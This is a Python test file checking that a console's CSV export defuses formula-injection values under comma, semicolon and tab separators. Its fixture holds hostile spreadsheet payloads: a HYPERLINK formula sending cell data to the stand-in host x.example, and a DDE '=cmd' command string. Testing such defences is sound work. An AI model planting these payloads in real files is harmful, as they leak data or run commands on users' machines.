"""The CSV export against formulas hidden after a separator: Excel set to Indonesian splits a
CSV at `;`, so a value such as `Sari;=HYPERLINK(…)` would give a cell that starts with `=`.
Read back with either separator, no cell of the export may start (after spaces) with a
character that makes a formula; with the right one, every value reads back whole."""

from __future__ import annotations

import csv
import io

from tests.console.test_queue import export_rows
from tests.support.console import ConsoleOffice
from workflows.console.exports import FORMULA_STARTS, defused

HOSTILE = {
    "person_name": 'Sari;=HYPERLINK("http://x.example/?"&A1;"klik")',
    "address": "Jl. Melati 3; @SUM(1+1),  -2+3;\t=cmd|' /C calc'!A0\n+62 812",
}


def formula_cells(text: str, delimiter: str) -> list[str]:
    rows = csv.reader(io.StringIO(text), delimiter=delimiter)
    return [cell for row in rows for cell in row if cell.lstrip(" ").startswith(FORMULA_STARTS)]


async def test_no_cell_starts_a_formula_whichever_separator_opens_the_file(office: ConsoleOffice) -> None:
    ani = await office.hire("Ani", role="admin", districts=())
    ticket = await office.file(**HOSTILE)
    member = await office.signed_in(ani)
    answer = await member.get("/console/queue/export.csv")
    assert answer.status == 200
    raw = await answer.read()
    assert raw.startswith("\ufeff".encode()), "a BOM: Excel reads the file as UTF-8"
    text = raw.decode("utf-8-sig")
    assert text.startswith('"Nomor","'), "every field quoted"
    for delimiter in (",", ";", "\t"):
        assert formula_cells(text, delimiter) == [], delimiter
    [row] = await export_rows(member)
    assert row["Nomor"] == ticket.number
    assert row["Nama"] == 'Sari;\'=HYPERLINK("http://x.example/?"&A1;"klik")'
    assert row["Alamat"] == "Jl. Melati 3; '@SUM(1+1),  '-2+3;'\t'=cmd|' /C calc'!A0\n'+62 812"
    await member.close()


def test_a_value_is_defused_wherever_a_cell_could_begin() -> None:
    assert defused("=1+1") == "'=1+1"
    assert defused("  =1+1") == "  '=1+1"
    assert defused("a,=1") == "a,'=1" and defused("a;=1") == "a;'=1" and defused("a\n@b") == "a\n'@b"
    assert defused("Gg. Mawar RT 03 - RW 01; 0812-3456") == "Gg. Mawar RT 03 - RW 01; 0812-3456"
